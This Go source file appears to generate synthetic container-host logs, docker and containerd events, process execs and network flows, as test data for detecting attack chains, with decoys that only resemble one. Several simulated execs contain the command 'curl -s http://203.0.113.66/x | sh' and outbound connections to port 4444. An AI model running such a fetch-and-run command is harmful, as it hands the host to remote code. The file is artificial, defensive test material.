package traffic

import (
	"fmt"
	"time"
)

// container is one container's life on the host.
type container struct {
	id, name, image, digest string
	pid                     int
	addr                    string
	at                      int64 // when it was created
}

// Images that the company runs, and programs that they run.
var (
	ownImages = []string{"shop/front:4.2", "shop/cart:1.9", "pay/api:7", "batch/report:2.1", "base/cache:6"}
	harmless  = [][]string{
		{"/usr/bin/date", "date", "+%s"}, {"/usr/sbin/nginx", "nginx", "-g", "daemon off;"}, {"/usr/bin/node", "node", "/app/server.js"},
		{"/bin/cat", "cat", "/proc/loadavg"}, {"/usr/bin/test", "test", "-f", "/tmp/ready"}, {"/app/report", "report", "--day", "yesterday"},
	}
	// What the host itself runs.
	hostPrograms = [][]string{{"/usr/bin/ps", "ps", "aux"}, {"/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"}, {"/usr/bin/systemctl", "systemctl", "is-active", "docker"}}
)

// begin makes a container: its image comes if it is pulled, and it is created
// and started.
func (h *host) begin(at int64, image string, pulled bool) container {
	h.pid += 10
	h.addr++
	c := container{
		id: h.hex(32), name: "c" + h.hex(4), image: image, digest: h.hex(32), pid: h.pid, at: at,
		addr: fmt.Sprintf("172.17.%d.%d", h.addr/250%250, 2+h.addr%250),
	}
	if pulled {
		h.docker(at-20*second, `{"Type":"image","Action":"pull","Actor":{"ID":%q,"Attributes":{"name":%q}},"scope":"local","time":%d,"timeNano":%d}`, image, image)
	}
	h.dockerContainer(at, "create", c)
	h.containerd(at+second/20, "/containers/create", `{"id":%q,"runtime":{"name":"io.containerd.runc.v2"}}`, c.id)
	h.containerd(at+second/10, "/tasks/create", `{"container_id":%q,"pid":%d}`, c.id, c.pid)
	h.containerd(at+second/8, "/tasks/start", `{"container_id":%q,"pid":%d}`, c.id, c.pid)
	h.dockerContainer(at+second/7, "start", c)
	return c
}

// end ends a container.
func (h *host) end(c container, at int64) {
	h.containerd(at, "/tasks/exit", `{"container_id":%q,"id":%q,"pid":%d,"exit_status":0,"exited_at":{"seconds":%d}}`, c.id, c.id, c.pid, at/second)
	h.dockerContainer(at+second/50, "die", c)
	h.dockerContainer(at+second/40, "destroy", c)
}

// work is what a company does all day: a container of its own that comes, runs
// programs, connects to neighbours, and goes; and the host's own programs.
func (h *host) work() {
	at := h.when()
	c := h.begin(at, "registry.corp.example/"+ownImages[h.rng.IntN(len(ownImages))], h.rng.IntN(10) == 0)
	if h.rng.IntN(50) == 0 { // somebody looks at few of them only
		h.describe(c)
	}
	for i := range 2 + h.rng.IntN(4) {
		h.exec(at+int64(i+1)*second, c.pid+1+i, c.pid, harmless[h.rng.IntN(len(harmless))])
	}
	for i := range 1 + h.rng.IntN(4) {
		h.flow(at+int64(i+2)*second, c.addr, fmt.Sprintf("10.20.%d.%d", h.rng.IntN(8), 1+h.rng.IntN(200)), 5432)
	}
	h.exec(at+h.rng.Int64N(60*second), 900+h.rng.IntN(1000), 1, hostPrograms[h.rng.IntN(len(hostPrograms))])
	h.end(c, at+10*second+h.rng.Int64N(int64(20*time.Minute)))
}

// chain is a true one: an untrusted image comes, a container is made of it, and
// soon it fetches and runs something, or connects outside; or both.
func (h *host) chain() string {
	at := h.when()
	c := h.begin(at, "hub.evil.example/tools/"+h.hex(3)+":latest", true)
	h.describe(c)
	kind := h.rng.IntN(3)
	if kind != 1 {
		h.exec(at+4*second, c.pid+1, c.pid, []string{"/bin/sh", "sh", "-c", "curl -s http://203.0.113.66/x | sh"})
	}
	if kind != 0 {
		h.flow(at+6*second, c.addr, "203.0.113.66", 4444)
	}
	h.exec(at+2*second, c.pid+2, c.pid, harmless[0])
	h.end(c, at+30*60*second)
	return c.id
}

// decoys is the number of kinds of false chains.
const decoys = 4

// decoy is a story that only looks like a chain.
func (h *host) decoy(kind int) {
	at := h.when()
	shell := []string{"/bin/sh", "sh", "-c", "ls /app"}
	switch kind {
	case 0: // what it does comes twenty minutes late
		c := h.begin(at, "hub.evil.example/late/"+h.hex(3)+":latest", true)
		h.exec(at+20*60*second, c.pid+1, c.pid, []string{"/bin/sh", "sh", "-c", "curl -s http://203.0.113.66/x | sh"})
		h.end(c, at+25*60*second)
	case 1: // the image is the company's
		c := h.begin(at, "registry.corp.example/shop/tool:1", true)
		h.exec(at+4*second, c.pid+1, c.pid, shell)
		h.flow(at+5*second, c.addr, "10.20.0.9", 5432)
		h.end(c, at+60*second)
	case 2: // it runs nothing but its program
		c := h.begin(at, "hub.evil.example/quiet/"+h.hex(3)+":latest", true)
		h.exec(at+4*second, c.pid+1, c.pid, harmless[2])
		h.end(c, at+60*second)
	case 3: // the same process id ran a shell before the container was
		c := h.begin(at, "hub.evil.example/order/"+h.hex(3)+":latest", true)
		h.exec(at-10*60*second, c.pid+1, 1, []string{"/bin/sh", "sh", "-c", "curl -s http://203.0.113.66/x | sh"})
		h.end(c, at+60*second)
	}
}
